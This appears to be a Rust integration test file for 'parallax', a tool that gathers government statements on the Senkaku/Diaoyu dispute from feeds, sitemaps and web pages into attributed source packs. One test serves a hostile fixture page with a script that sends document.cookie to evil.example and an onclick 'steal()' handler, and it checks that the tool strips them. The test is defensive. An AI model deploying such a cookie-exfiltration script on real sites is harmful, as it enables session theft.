//! `parallax gather` through the real binary, against channels served from
//! 127.0.0.1: a source pack whose items say whose words they are, drafted into
//! an article; a second gather that finds nothing new; an item edited upstream.

use std::time::{Duration, SystemTime};

use crate::support::{Parallax, read, read_json, scratch, write};
use testkit::web::{Reply, Web};

fn rss(items: &[(&str, &str, SystemTime)]) -> String {
    let items: String = items
        .iter()
        .map(|(title, link, at)| {
            format!(
                "<entry><title>{title}</title><link href=\"{link}\"/><id>{link}</id><updated>{}</updated></entry>",
                humantime::format_rfc3339_seconds(*at)
            )
        })
        .collect();
    format!(
        "<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\"><title>t</title>{items}</feed>"
    )
}

const BRIEFING: &str = "Mao Ning: Good afternoon. I have no announcements today.\n\nCCTV: Japan says the new export rules on the Diaoyu Islands area are \"a threat\". What is China's comment?\n\nMao Ning: The Diaoyu Islands are China's inherent territory. China firmly opposes Japan's moves.\n";
const TOKYO: &str = "The Chief Cabinet Secretary said Japan lodged a strong protest over Chinese ships near the Senkaku Islands.\n";

fn channel(dir: &std::path::Path, id: &str, side: &str, url: &str, flags: &str) {
    std::fs::create_dir_all(dir.join("channels")).unwrap();
    write(
        dir.join(format!("channels/{id}.toml")),
        format!(
            "id = \"{id}\"\nside = \"{side}\"\noffice = \"Office of {side}\"\nlanguage = \"en\"\nkind = \"feed\"\nurl = \"{url}\"\nformat = \"transcript\"\nlicence = \"Licence of {side}\"\nattribution = \"Office of {side}\"\nflags = [{flags}]\npace = \"0s\"\n"
        ),
    );
}

#[test]
fn each_sides_channels_gather_into_a_pack_that_drafts() {
    let web = Web::start();
    let now = SystemTime::now();
    let old = now - Duration::from_secs(30 * 86_400);
    web.route("/cn/briefing", Reply::ok("text/plain; charset=utf-8", BRIEFING));
    web.route(
        "/cn/old",
        Reply::ok("text/plain; charset=utf-8", "Mao Ning: The Diaoyu Islands, a month ago."),
    );
    web.route("/cn/other", Reply::ok("text/plain; charset=utf-8", "Mao Ning: On the weather today."));
    web.route("/jp/statement", Reply::ok("text/plain; charset=utf-8", TOKYO));
    let cn_feed = rss(&[
        ("Briefing", &web.url("/cn/briefing"), now),
        ("Old", &web.url("/cn/old"), old),
        ("Other", &web.url("/cn/other"), now),
    ]);
    web.route("/cn.xml", Reply::ok("application/atom+xml", cn_feed));
    web.route(
        "/jp.xml",
        Reply::ok("application/atom+xml", rss(&[("Protest", &web.url("/jp/statement"), now)])),
    );
    web.route("/kr.xml", Reply::ok("text/html", "<html><body>Technical difficulties</body></html>"));
    let dir = scratch();
    channel(&dir, "cn-test", "china", &web.url("/cn.xml"), "\"official record, may omit exchanges\"");
    channel(&dir, "jp-test", "japan", &web.url("/jp.xml"), "");
    channel(&dir, "kr-test", "south-korea", &web.url("/kr.xml"), "");
    let gather = || {
        Parallax::new(&dir)
            .args(["gather", "--persona", "prism", "--topic", "senkaku", "--since", "7d", "-o", "pack"])
            .args(["--channels", "channels", "--allow-private", "--json"])
            .args(["--channel", "cn-test", "--channel", "jp-test", "--channel", "kr-test"])
            .succeeds()
    };
    let r = gather();
    assert!(r.stderr.contains("china: 1 item(s)") && r.stderr.contains("japan: 1 item(s)"), "{}", r.stderr);
    assert!(r.stderr.contains("south-korea: 0 item(s)") && r.stderr.contains("not a feed"), "{}", r.stderr);
    let pack = read_json(dir.join("pack/pack.json"));
    let items = pack["items"].as_array().unwrap();
    assert_eq!(items.len(), 2, "{pack}");
    let cn = items.iter().find(|i| i["side"] == "china").unwrap();
    let file = read(dir.join("pack").join(cn["file"].as_str().unwrap()));
    for field in [
        "perspective: \"china\"",
        "channel: \"cn-test\"",
        "licence: \"Licence of china\"",
        "official record, may omit exchanges",
    ] {
        assert!(file.contains(field), "{field} in {file}");
    }

    // The pack drafts: China's position from its spokesperson's turns, never the question.
    Parallax::new(&dir)
        .draft(["pack", "--persona", "prism", "-o", "a.json", "--format", "json,md"])
        .succeeds();
    let a = read_json(dir.join("a.json"));
    // Each item's licence and provenance reach the reader and the record.
    let listed =
        a["sources"].as_array().unwrap().iter().find(|s| s["licence"] == "Licence of china").cloned();
    let listed = listed.unwrap_or_else(|| panic!("{}", a["sources"]));
    assert_eq!(listed["provenance"], serde_json::json!(["official record, may omit exchanges"]));
    let md = read(dir.join("a.md"));
    assert!(md.contains("Licence of china; official record, may omit exchanges"), "{md}");
    let record = read(dir.join("a.provenance.json"));
    assert!(record.contains("official record, may omit exchanges"), "{record}");
    let china = a["perspectives"].as_array().unwrap().iter().find(|p| p["id"] == "china").unwrap();
    assert_eq!(china["stated"], true, "{china}");
    assert!(!china["position"]["text"].as_str().unwrap().contains("a threat"), "{china}");

    // Nothing new upstream: the same items, no snapshot; an edited item keeps its first snapshot.
    let hits = web.total_hits();
    gather();
    assert!(web.total_hits() > hits, "asked again (conditionally)");
    assert!(!dir.join("pack/.snapshots").exists());
    web.route(
        "/cn/briefing",
        Reply::ok("text/plain; charset=utf-8", BRIEFING.replace("firmly opposes", "strongly opposes")),
    );
    gather();
    let kept = std::fs::read_dir(dir.join("pack/.snapshots")).unwrap().count();
    assert_eq!(kept, 1, "the first snapshot of the edited item is kept");
}

#[test]
fn a_sites_robots_txt_is_obeyed() {
    let web = Web::start();
    let now = SystemTime::now();
    web.route("/robots.txt", Reply::ok("text/plain", "User-agent: *\nDisallow: /jp/\n"));
    web.route("/jp/statement", Reply::ok("text/plain; charset=utf-8", TOKYO));
    web.route(
        "/feeds/jp.xml",
        Reply::ok("application/atom+xml", rss(&[("Protest", &web.url("/jp/statement"), now)])),
    );
    let dir = scratch();
    channel(&dir, "jp-test", "japan", &web.url("/feeds/jp.xml"), "");
    let r = Parallax::new(&dir)
        .args(["gather", "--persona", "prism", "--topic", "senkaku", "--since", "7d", "-o", "pack"])
        .args(["--channels", "channels", "--allow-private", "--json", "--channel", "jp-test"])
        .succeeds();
    assert!(r.stderr.contains("japan: 0 item(s)"), "{}", r.stderr);
    let pack = read_json(dir.join("pack/pack.json"));
    let skipped = pack["skipped"].to_string();
    assert!(skipped.contains("robots.txt does not allow it"), "{pack}");
    assert_eq!(web.hits("/jp/statement"), 0, "a disallowed page is never asked for");
}

#[test]
fn a_live_check_asks_each_channel_once() {
    let web = Web::start();
    let now = SystemTime::now();
    web.route("/ok.xml", Reply::ok("application/atom+xml", rss(&[("Briefing", &web.url("/b"), now)])));
    web.route("/moved.xml", Reply::ok("text/html", "<html><body>We moved</body></html>"));
    let dir = scratch();
    channel(&dir, "ok-test", "china", &web.url("/ok.xml"), "");
    channel(&dir, "moved-test", "japan", &web.url("/moved.xml"), "");
    let r = Parallax::new(&dir)
        .args(["channels", "check", "--live", "--allow-private", "--json"])
        .args(["channels/ok-test.toml", "channels/moved-test.toml"])
        .fails_with(1);
    let lines = r.json_lines();
    assert_eq!(lines.len(), 2, "{}", r.stdout);
    let ok = lines.iter().find(|l| l["channel"] == "ok-test").unwrap();
    assert_eq!(ok["ok"], true);
    assert_eq!(ok["items"], 1);
    let moved = lines.iter().find(|l| l["channel"] == "moved-test").unwrap();
    assert_eq!(moved["ok"], false);
    assert!(moved["problem"].as_str().unwrap().contains("not a feed"), "{moved}");
    assert!(r.stderr.contains("1 of 2 channel(s)"), "{}", r.stderr);
    assert_eq!(web.hits("/ok.xml"), 1);
}

/// A channel file of any kind, with its extra lines (selectors).
fn channel_of(dir: &std::path::Path, id: &str, side: &str, kind: &str, url: &str, extra: &str) {
    std::fs::create_dir_all(dir.join("channels")).unwrap();
    write(
        dir.join(format!("channels/{id}.toml")),
        format!(
            "id = \"{id}\"\nside = \"{side}\"\noffice = \"Office of {side}\"\nlanguage = \"en\"\nkind = \"{kind}\"\nurl = \"{url}\"\nformat = \"statement\"\nlicence = \"Licence of {side}\"\nattribution = \"Office of {side}\"\npace = \"0s\"\n{extra}"
        ),
    );
}

#[test]
fn wordpress_sitemap_and_html_listing_channels_are_read() {
    let web = Web::start();
    let today = jiff::Timestamp::now().strftime("%Y-%m-%d").to_string();
    let stamp = jiff::Timestamp::now().strftime("%Y-%m-%dT%H:%M:%S").to_string();
    // WordPress: the posts carry their bodies; no page is fetched for them.
    let posts = serde_json::json!([
        {"link": web.url("/us/senkaku-statement/"), "date_gmt": stamp,
         "title": {"rendered": "Statement on the Senkaku Islands &#8211; Spokesperson"},
         "content": {"rendered": "<p>The Spokesperson said the United States opposes any unilateral action near the Senkaku Islands.</p><p>Our commitment is firm.</p>"}},
        {"link": web.url("/us/weather/"), "date_gmt": stamp,
         "title": {"rendered": "On the weather"}, "content": {"rendered": "<p>Rain today.</p>"}}
    ]);
    web.route("/wp-json/wp/v2/posts", Reply::ok("application/json", posts.to_string()));
    // A sitemap: addresses and their last changes.
    web.route(
        "/kr/sitemap.xml",
        Reply::ok(
            "application/xml",
            format!(
                "<?xml version=\"1.0\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><url><loc>{}</loc><lastmod>{today}</lastmod></url><url><loc>{}</loc><lastmod>2001-01-01</lastmod></url></urlset>",
                web.url("/kr/briefing"),
                web.url("/kr/ancient")
            ),
        ),
    );
    web.route(
        "/kr/briefing",
        Reply::ok(
            "text/plain; charset=utf-8",
            "The foreign ministry said Seoul is watching the Senkaku Islands dispute closely.\n",
        ),
    );
    web.route("/kr/ancient", Reply::ok("text/plain; charset=utf-8", "Senkaku Islands, long ago.\n"));
    // An HTML listing: items by the link selector, their text by the body selector.
    web.route(
        "/jp/list.html",
        Reply::ok(
            "text/html; charset=utf-8",
            "<html><body><nav><a href=\"/jp/about\">About</a></nav><main><a class=\"item\" href=\"/jp/press\">Press conference</a></main></body></html>",
        ),
    );
    web.route(
        "/jp/press",
        Reply::ok(
            "text/html; charset=utf-8",
            "<html><body><nav>Menu Senkaku Islands Home</nav><div class=\"content\"><p>The Chief Cabinet Secretary said Japan protested over ships near the Senkaku Islands.</p></div></body></html>",
        ),
    );
    let dir = scratch();
    channel_of(&dir, "us-wp", "united-states", "wordpress", &web.url("/wp-json/wp/v2/posts"), "");
    channel_of(&dir, "kr-map", "south-korea", "sitemap", &web.url("/kr/sitemap.xml"), "");
    channel_of(
        &dir,
        "jp-list",
        "japan",
        "html",
        &web.url("/jp/list.html"),
        "links = \"main a.item\"\nbody = \"div.content\"\n",
    );
    let r = Parallax::new(&dir)
        .args(["gather", "--persona", "prism", "--topic", "senkaku", "--since", "7d", "-o", "pack"])
        .args(["--channels", "channels", "--allow-private", "--json"])
        .args(["--channel", "us-wp", "--channel", "kr-map", "--channel", "jp-list"])
        .succeeds();
    let pack = read_json(dir.join("pack/pack.json"));
    for side in ["united-states", "south-korea", "japan"] {
        assert_eq!(pack["sides"][side], 1, "{side}: {pack}\n{}", r.stderr);
    }
    assert_eq!(web.hits("/us/senkaku-statement/"), 0, "a WordPress post's body comes with the collection");
    assert_eq!(web.hits("/kr/ancient"), 0, "an item older than --since is not fetched");
    assert_eq!(web.hits("/jp/about"), 0, "only the links the selector picks");
    let items = pack["items"].as_array().unwrap();
    let text_of = |side: &str| {
        let item = items.iter().find(|i| i["side"] == side).unwrap();
        read(dir.join("pack").join(item["file"].as_str().unwrap()))
    };
    let us = text_of("united-states");
    assert!(
        us.contains("opposes any unilateral action")
            && us.contains("Statement on the Senkaku Islands – Spokesperson"),
        "{us}"
    );
    let jp = text_of("japan");
    assert!(jp.contains("Japan protested") && !jp.contains("Menu"), "the body selector's text only: {jp}");
}

#[test]
fn a_live_check_names_each_way_a_channel_fails_and_the_healthy_are_still_gathered() {
    let web = Web::start();
    let now = SystemTime::now();
    web.route(
        "/ok.xml",
        Reply::ok("application/atom+xml", rss(&[("Protest", &web.url("/jp/statement"), now)])),
    );
    web.route("/jp/statement", Reply::ok("text/plain; charset=utf-8", TOKYO));
    web.route("/refused.xml", Reply { status: 403, ..Reply::default() });
    web.route("/busy.xml", Reply { status: 429, ..Reply::default() }.header("Retry-After", "120"));
    web.route("/html.xml", Reply::ok("text/html", "<html><body>Technical difficulties</body></html>"));
    web.route("/empty.xml", Reply::ok("application/atom+xml", rss(&[])));
    web.route("/old.xml", Reply::redirect(301, &web.url("/new.xml")));
    web.route("/new.xml", Reply::ok("application/atom+xml", rss(&[("Briefing", &web.url("/b"), now)])));
    web.route(
        "/list.html",
        Reply::ok(
            "text/html",
            "<html><body><div class=\"redesigned\"><a href=\"/x\">x</a></div></body></html>",
        ),
    );
    let dir = scratch();
    let cases = [
        ("ok", "feed", "/ok.xml", "", "ok"),
        ("refused", "feed", "/refused.xml", "", "refused"),
        ("busy", "feed", "/busy.xml", "", "refused"),
        ("html", "feed", "/html.xml", "", "not a feed"),
        ("empty", "feed", "/empty.xml", "", "empty"),
        ("moved", "feed", "/old.xml", "", "moved"),
        ("changed", "html", "/list.html", "links = \"main a.item\"\n", "format changed"),
    ];
    for (id, kind, path, extra, _) in cases {
        channel_of(&dir, id, "japan", kind, &web.url(path), extra);
    }
    let files: Vec<String> = cases.iter().map(|c| format!("channels/{}.toml", c.0)).collect();
    let r = Parallax::new(&dir)
        .args(["channels", "check", "--live", "--allow-private", "--json"])
        .args(&files)
        .fails_with(1);
    let lines = r.json_lines();
    assert_eq!(lines.len(), cases.len(), "{}", r.stdout);
    for (id, _, _, _, want) in cases {
        let line = lines.iter().find(|l| l["channel"] == id).unwrap();
        let said = if line["ok"] == true { "ok".to_string() } else { line["problem"].to_string() };
        assert!(said.contains(want), "{id}: want {want:?}, got {line}");
    }
    assert!(lines.iter().find(|l| l["channel"] == "busy").unwrap()["problem"].to_string().contains("120"));
    // A gather over all of them keeps the healthy channel's item.
    let args: Vec<String> = cases.iter().flat_map(|c| ["--channel".to_string(), c.0.to_string()]).collect();
    Parallax::new(&dir)
        .args(["gather", "--persona", "prism", "--topic", "senkaku", "--since", "7d", "-o", "pack"])
        .args(["--channels", "channels", "--allow-private", "--json"])
        .args(&args)
        .succeeds();
    let pack = read_json(dir.join("pack/pack.json"));
    assert_eq!(pack["sides"]["japan"], 1, "{pack}");
}

#[test]
fn a_hostile_item_is_refused_or_neutralised_and_nothing_else_is_lost() {
    let web = Web::start();
    let now = SystemTime::now();
    web.route(
        "/script",
        Reply::ok(
            "text/html; charset=utf-8",
            "<html><body><article><p>The ministry said the Senkaku Islands talks would resume.</p><script>fetch('https://evil.example/'+document.cookie)</script><p onclick=\"steal()\">It said Japan protested over the Senkaku Islands again.</p></article></body></html>",
        ),
    );
    web.route("/huge", Reply::ok("text/plain", vec![b'a'; 50 * 1024 * 1024]));
    web.route("/good", Reply::ok("text/plain; charset=utf-8", TOKYO));
    // The feed lists a page on another loopback address, which the run has
    // not allowed: only this server's own host and port are.
    let private = web.url("/good").replace("127.0.0.1", "127.0.0.2");
    let feed = rss(&[
        ("Script", &web.url("/script"), now),
        ("Huge", &web.url("/huge"), now),
        ("Private", &private, now),
        ("Good", &web.url("/good"), now),
    ]);
    web.route("/jp.xml", Reply::ok("application/atom+xml", feed));
    let dir = scratch();
    channel(&dir, "jp-test", "japan", &web.url("/jp.xml"), "");
    let host = web.url("").trim_start_matches("http://").trim_end_matches('/').to_string();
    write(dir.join("trusted.toml"), format!("[fetch]\nallow = [\"{host}\"]\n"));
    let r = Parallax::new(&dir)
        .args([
            "gather",
            "--persona",
            "prism",
            "--topic",
            "senkaku",
            "-o",
            "pack",
            "--config",
            "trusted.toml",
        ])
        .args(["--channels", "channels", "--json", "--channel", "jp-test"])
        .succeeds();
    let pack = read_json(dir.join("pack/pack.json"));
    let kept: Vec<&str> =
        pack["items"].as_array().unwrap().iter().map(|i| i["url"].as_str().unwrap()).collect();
    assert!(
        kept.contains(&web.url("/good").as_str()) && kept.contains(&web.url("/script").as_str()),
        "{pack}\n{}",
        r.stderr
    );
    let skipped = pack["skipped"].as_array().unwrap();
    let reason = |url: &str| {
        skipped
            .iter()
            .find(|s| s["url"] == url)
            .map(|s| s["reason"].as_str().unwrap().to_string())
            .unwrap_or_else(|| panic!("{url} not skipped: {pack}"))
    };
    assert!(reason(&web.url("/huge")).contains("limit"), "{pack}");
    assert!(reason(&private).contains("127.0.0.2"), "{pack}");
    assert!(!reason(&private).contains('\n'), "one line each");
    let item = pack["items"].as_array().unwrap().iter().find(|i| i["url"] == web.url("/script")).unwrap();
    let text = read(dir.join("pack").join(item["file"].as_str().unwrap()));
    assert!(
        text.contains("Japan protested") && !text.contains("document.cookie") && !text.contains("steal()"),
        "{text}"
    );
}

#[test]
fn a_topics_file_gathers_a_pack_per_topic_and_a_batch_that_drafts_them() {
    let web = Web::start();
    let now = SystemTime::now();
    web.route("/cn/briefing", Reply::ok("text/plain; charset=utf-8", BRIEFING));
    web.route("/jp/statement", Reply::ok("text/plain; charset=utf-8", TOKYO));
    web.route(
        "/cn.xml",
        Reply::ok("application/atom+xml", rss(&[("Briefing", &web.url("/cn/briefing"), now)])),
    );
    web.route(
        "/jp.xml",
        Reply::ok("application/atom+xml", rss(&[("Protest", &web.url("/jp/statement"), now)])),
    );
    let dir = scratch();
    channel(&dir, "cn-test", "china", &web.url("/cn.xml"), "");
    channel(&dir, "jp-test", "japan", &web.url("/jp.xml"), "");
    write(
        dir.join("topics.toml"),
        "[[topic]]\nid = \"senkaku\"\n\n[[topic]]\nid = \"tariffs\"\ntopic = \"tariffs,customs duties\"\nsince = \"2d\"\n",
    );
    let r = Parallax::new(&dir)
        .args(["gather", "--persona", "prism", "--manifest", "topics.toml", "--since", "7d", "-o", "nightly"])
        .args(["--channels", "channels", "--allow-private", "--channel", "cn-test", "--channel", "jp-test"])
        .succeeds();
    assert!(r.stderr.contains("no item on tariffs"), "{}", r.stderr);
    assert_eq!(read_json(dir.join("nightly/senkaku/pack.json"))["sides"]["china"], 1);
    assert!(dir.join("nightly/tariffs/pack.json").exists());
    let manifest = read(dir.join("nightly/batch.jsonl"));
    assert_eq!(manifest.lines().count(), 1, "a topic with no item makes no story: {manifest}");
    // The second command of the night.
    Parallax::new(&dir).args(["batch", "nightly/batch.jsonl", "--out", "out"]).succeeds();
    let article = read_json(dir.join("out/senkaku.json"));
    let china = article["perspectives"].as_array().unwrap().iter().find(|p| p["id"] == "china").unwrap();
    assert_eq!(china["stated"], true, "{china}");
}
